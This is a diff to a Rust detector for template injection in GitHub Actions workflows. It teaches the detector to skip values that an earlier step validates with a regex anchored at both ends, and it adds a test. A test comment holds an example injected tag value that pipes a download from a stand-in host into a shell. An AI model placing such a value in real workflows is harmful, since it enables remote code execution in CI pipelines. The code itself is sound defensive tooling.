@@ -8,6 +8,9 @@ use crate::workflows::sinks;
 use crate::workflows::taint::{Origin, Scope, Taint};
 use crate::workflows::wf::{self, Expr, Triggers};
 
+use regex::Regex;
+use std::sync::LazyLock;
+
 /// See [`META`].
 pub struct TemplateInjection;
 
@@ -85,7 +88,11 @@ cannot follow differently:
 
 `github.ref` / `github.ref_name` are reported at low on workflows a push of any
 branch or tag can start (the pusher already has write access); a `push:`
-limited to literally named branches and tags fixes them, so they are not.
+limited to literally named branches and tags fixes them, so they are not. A value
+an earlier step of the same job checks against a regex anchored at both ends and
+fails the job on (`env: TAG: ${{ github.ref_name }}`, then
+`[[ "$TAG" =~ ^v[0-9]+\.[0-9]+\.[0-9]+$ ]] || exit 1`) has that shape in the later
+steps and is not reported there.
 User logins (`github.event.comment.user.login`) are not reported: logins are
 limited to letters, digits and `-`.
 
@@ -335,11 +342,59 @@ fn grade(o: &Origin, ex: Exposure<'_>, gated: bool) -> (Severity, String) {
     }
 }
 
+/// `[[ "$TAG" =~ ^v[0-9]+…$ ]]`: a bash test of a variable against a regex anchored at
+/// both ends.
+static ANCHORED_TEST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\[\[\s*"?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"?\s*=~\s*\^[^\n]*\$\)?\s*\]\]"#)
+        .expect("static regex")
+});
+
+/// The contexts a step checks against an anchored regex and stops the job on
+/// (`env: TAG: ${{ github.ref_name }}` then `[[ "$TAG" =~ ^v[0-9.]+$ ]] || exit 1`): later
+/// steps of the job only run with a value of that shape, so pasting it is not an injection.
+fn validated_contexts(step: &YamlNode) -> Vec<String> {
+    let Some(run) = step.get("run").and_then(|r| r.as_str()) else {
+        return Vec::new();
+    };
+    if !run.contains("=~") || !run.contains("exit") {
+        return Vec::new();
+    }
+    let env: Vec<(String, String)> = step
+        .get("env")
+        .and_then(|e| e.as_map())
+        .into_iter()
+        .flatten()
+        .filter_map(|p| Some((p.key.clone(), p.value.as_str()?.to_string())))
+        .collect();
+    let mut out = Vec::new();
+    for c in ANCHORED_TEST.captures_iter(run) {
+        let Some(var) = c.get(1) else { continue };
+        for (name, value) in &env {
+            if name != var.as_str() {
+                continue;
+            }
+            let inner = value
+                .trim()
+                .strip_prefix("${{")
+                .and_then(|v| v.strip_suffix("}}"))
+                .map(str::trim);
+            if let Some(inner) = inner.filter(|i| {
+                i.chars()
+                    .all(|ch| ch.is_ascii_alphanumeric() || ch == '.' || ch == '_')
+            }) {
+                out.push(inner.to_string());
+            }
+        }
+    }
+    out
+}
+
 fn check_sink(
     sink: &CodeSink<'_>,
     scope: &Scope<'_>,
     ex: Exposure<'_>,
     gated: bool,
+    validated: &[String],
     text: &str,
     out: &mut Sink<'_>,
 ) {
@@ -362,8 +417,14 @@ fn check_sink(
         if origin.taint == Taint::Untraced {
             continue;
         }
-        let (severity, who) = grade(&origin, ex, gated);
         let plain = parsed.context_path();
+        if plain
+            .as_deref()
+            .is_some_and(|p| validated.iter().any(|v| v == p))
+        {
+            continue;
+        }
+        let (severity, who) = grade(&origin, ex, gated);
         let (var, declare) = match plain.as_deref() {
             Some("github.head_ref") => ("GITHUB_HEAD_REF".to_string(), false),
             Some(p) if p.starts_with("env.") => (
@@ -516,11 +577,17 @@ impl Rule for TemplateInjection {
                     harmless: harmless_token(root, &job.value),
                     ..ex
                 };
+                let mut validated: Vec<String> = Vec::new();
                 for step in wf::steps(&job.value) {
                     let gated = wf::label_gated(&[Some(&job.value), Some(step)]);
                     let ss = js.step(step);
                     for sink in sinks_of(step, Some(&job.value), false) {
-                        check_sink(&sink, &ss, ex, gated, &cx.file.text, out);
+                        check_sink(&sink, &ss, ex, gated, &validated, &cx.file.text, out);
+                    }
+                    // A step that fails the job unless the value has a fixed shape
+                    // guards the steps after it.
+                    if step.get("continue-on-error").is_none() {
+                        validated.extend(validated_contexts(step));
                     }
                 }
             }
@@ -589,10 +656,14 @@ impl Rule for TemplateInjection {
                 harmless: false,
             };
             let scope = Scope::action(root).with_weak_origins();
+            let mut validated: Vec<String> = Vec::new();
             for step in wf::action_steps(root) {
                 let ss = scope.step(step);
                 for sink in sinks_of(step, None, true) {
-                    check_sink(&sink, &ss, ex, false, &cx.file.text, out);
+                    check_sink(&sink, &ss, ex, false, &validated, &cx.file.text, out);
+                }
+                if step.get("continue-on-error").is_none() {
+                    validated.extend(validated_contexts(step));
                 }
             }
         }
@@ -602,6 +673,21 @@ impl Rule for TemplateInjection {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn anchored_checks_validate_their_context() {
+        let step = crate::parse::yaml::parse(
+            "name: Enforce release tag format\nenv:\n  TAG: ${{ github.ref_name }}\nrun: |\n  [[ \"$TAG\" =~ ^v[0-9]+\\.[0-9]+\\.[0-9]+([.-][0-9A-Za-z.-]+)?$ ]] || {\n    echo \"not a release tag\"\n    exit 1\n  }\n",
+        );
+        let root = step.documents[0].root.as_ref().expect("root");
+        assert_eq!(super::validated_contexts(root), vec!["github.ref_name"]);
+        // Not anchored at the end: `v1.2.3; curl evil | sh` still matches.
+        let loose = crate::parse::yaml::parse(
+            "env:\n  TAG: ${{ github.ref_name }}\nrun: '[[ \"$TAG\" =~ ^v[0-9] ]] || exit 1'\n",
+        );
+        let root = loose.documents[0].root.as_ref().expect("root");
+        assert!(super::validated_contexts(root).is_empty());
+    }
 
     #[test]
     fn env_names_and_quotes() {
